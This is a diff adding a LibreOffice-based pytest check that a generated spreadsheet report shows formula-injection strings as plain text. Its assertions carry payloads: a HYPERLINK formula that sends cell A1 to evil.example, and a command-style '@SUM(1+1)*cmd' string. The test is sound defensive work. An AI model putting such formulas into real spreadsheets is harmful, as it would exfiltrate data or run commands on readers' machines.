@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import csv
+import shutil
+import subprocess
 from datetime import datetime
 from http.server import BaseHTTPRequestHandler, HTTPServer
 from pathlib import Path
@@ -239,3 +241,21 @@ def test_letters_are_counted_as_a_reader_counts_them() -> None:
     assert shown(family * 10, 10) == family * 10
     assert shown(family * 11, 10) == family * 9 + "…"
     assert html  # the page's own tests are above
+
+
+@pytest.mark.slow
+@pytest.mark.skipif(
+    shutil.which("soffice") is None, reason="no LibreOffice is installed; apt-get install libreoffice-calc"
+)
+def test_libreoffice_shows_formulas_as_words(hostile, tmp_path: Path) -> None:
+    from pypdf import PdfReader
+
+    _, folder = hostile
+    home = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
+    subprocess.run(["soffice", home, "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), str(folder / "report.xlsx")],
+                   check=True, capture_output=True, timeout=120)  # fmt: skip
+    text = "".join(page.extract_text() for page in PdfReader(tmp_path / "report.pdf").pages)
+    assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in text
+    assert "@SUM(1+1)*cmd" in text
+    assert "#NAME?" not in text
+    assert "Err:" not in text
